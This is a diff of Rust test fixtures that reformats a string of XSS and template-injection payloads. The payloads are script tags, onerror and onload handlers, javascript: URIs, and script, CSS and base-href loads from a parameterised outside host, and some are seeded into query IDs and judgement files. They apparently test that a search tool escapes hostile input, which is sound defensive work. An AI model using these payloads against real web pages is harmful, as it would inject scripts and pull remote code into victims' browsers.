@@ -14,13 +14,13 @@ const LONG: usize = 1 << 20;
 /// Markup that runs a script, closes what it may stand in, and loads from another server.
 pub fn markup(elsewhere: &str) -> String {
     format!(
-        "\"'></title></bdi></script></style></textarea></option></svg>\
-         <script>window.attacked = 1</script><script src=\"{elsewhere}/text.js\"></script>\
-         <img src=\"{elsewhere}/text.png\" onerror=\"window.attacked = 1\"><svg onload=\"window.attacked = 1\">\
-         <iframe src=\"javascript:parent.attacked = 1\"></iframe>\
-         <a href=\"javascript:window.attacked = 1\" autofocus onfocus=\"window.attacked = 1\">x</a>\
-         <style>@import url(\"{elsewhere}/text.css\");</style><base href=\"{elsewhere}/\">\
-         {{{{7*7}}}} ${{7*7}} &lt;script&gt; %3Cscript%3E \\u003cscript\\u003e {INVISIBLE}"
+        "\"'></title></bdi></script></style></textarea></option></svg><script>window.attacked = \
+         1</script><script src=\"{elsewhere}/text.js\"></script><img src=\"{elsewhere}/text.png\" \
+         onerror=\"window.attacked = 1\"><svg onload=\"window.attacked = 1\"><iframe \
+         src=\"javascript:parent.attacked = 1\"></iframe><a href=\"javascript:window.attacked = \
+         1\" autofocus onfocus=\"window.attacked = 1\">x</a><style>@import \
+         url(\"{elsewhere}/text.css\");</style><base href=\"{elsewhere}/\">{{{{7*7}}}} ${{7*7}} \
+         &lt;script&gt; %3Cscript%3E \\u003cscript\\u003e {INVISIBLE}"
     )
 }
 
@@ -84,11 +84,14 @@ pub fn folder(elsewhere: &str) -> Arc<Folder> {
     ];
     let lines: String = pages.iter().map(|page| format!("{page}\n")).collect();
     std::fs::write(folder.path(ARCHIVE), lines).expect("an archive");
-    let topics = [("1", text.clone()), ("<script>window.attacked=1</script>", format!("attacker {text}"))];
-    let topics: String = topics.map(|(id, text)| format!("{}\n", json!({ "query_id": id, "text": text }))).concat();
+    let topics =
+        [("1", text.clone()), ("<script>window.attacked=1</script>", format!("attacker {text}"))];
+    let topics: String =
+        topics.map(|(id, text)| format!("{}\n", json!({ "query_id": id, "text": text }))).concat();
     std::fs::write(folder.path("demo.topics"), topics).expect("topics");
-    let judged = "0 page 1\n<script>window.attacked=1</script> 0 \"><img/src=x/onerror=window.attacked=1> 2\n\
-                  <script>window.attacked=1</script> 0 <script>gone</script> 1\n";
+    let judged = "0 page 1\n<script>window.attacked=1</script> 0 \
+                  \"><img/src=x/onerror=window.attacked=1> 2\n<script>window.attacked=1</script> 0 \
+                  <script>gone</script> 1\n";
     std::fs::write(folder.path("demo.qrels"), format!("1 {judged}")).expect("judgements");
     folder.tamis(&["index", ARCHIVE, "--out", "index", "--store", "all", "-q"]);
     Arc::new(folder)
